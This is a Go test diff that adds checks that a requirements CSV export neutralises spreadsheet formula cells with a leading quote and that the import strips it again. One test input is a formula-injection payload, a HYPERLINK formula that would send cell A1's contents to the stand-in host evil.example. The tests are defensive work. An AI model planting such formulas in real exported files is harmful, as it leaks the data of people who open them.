@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"os"
 	"strconv"
@@ -190,4 +191,59 @@ func TestParseCSVRefusesTooManyRows(t *testing.T) {
 	require.True(t, errors.As(err, &ie), "%v", err)
 	assert.Equal(t, maxImportRows+1, ie.Row)
 	assert.Contains(t, ie.Rule, "at most 10000 rows")
+}
+
+// TestWriteCSVQuotesFormulaCells checks that an exported cell a
+// spreadsheet would run as a formula begins with a single quote, that
+// other cells are written as stored, and that the export reads back as
+// the same requirements.
+func TestWriteCSVQuotesFormulaCells(t *testing.T) {
+	r := valid()
+	r.RequirementText = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	r.Category = "+SUM(1,1)"
+	r.Subcategory = "-2+3"
+	r.TargetValue = "@SUM(A1)"
+	r.Notes = "'=already quoted"
+	r.TestModule = "plain text"
+	r.Assignee = "it's fine"
+	var buf bytes.Buffer
+	require.NoError(t, WriteCSV(&buf, []Requirement{r}))
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, rows, 2)
+	cell := map[string]string{}
+	for i, c := range Columns {
+		cell[c] = rows[1][i]
+	}
+	assert.Equal(t, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, cell["requirement_text"])
+	assert.Equal(t, "'+SUM(1,1)", cell["category"])
+	assert.Equal(t, "'-2+3", cell["subcategory"])
+	assert.Equal(t, "'@SUM(A1)", cell["target_value"])
+	assert.Equal(t, "''=already quoted", cell["notes"])
+	assert.Equal(t, "plain text", cell["test_module"])
+	assert.Equal(t, "it's fine", cell["assignee"])
+	for _, row := range rows[1:] {
+		for i, c := range row {
+			assert.False(t, c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])), "column %s begins a formula: %q", Columns[i], c)
+		}
+	}
+	again, err := ParseCSV(&buf)
+	require.NoError(t, err)
+	assert.Equal(t, []Requirement{r}, again)
+}
+
+// TestParseCSVDropsTheFormulaQuote checks that an import drops the single
+// quote an export puts before a formula cell, and only that quote.
+func TestParseCSVDropsTheFormulaQuote(t *testing.T) {
+	in := "req_id,category,requirement_text,status,notes,assignee,target_value\n" +
+		"REQ-A-1,'+CAT,'=1+1,MISSING,''@x,'quoted,'\n"
+	reqs, err := ParseCSV(strings.NewReader(in))
+	require.NoError(t, err)
+	require.Len(t, reqs, 1)
+	r := reqs[0]
+	assert.Equal(t, "+CAT", r.Category)
+	assert.Equal(t, "=1+1", r.RequirementText)
+	assert.Equal(t, "'@x", r.Notes)
+	assert.Equal(t, "'quoted", r.Assignee)
+	assert.Equal(t, "'", r.TargetValue)
 }
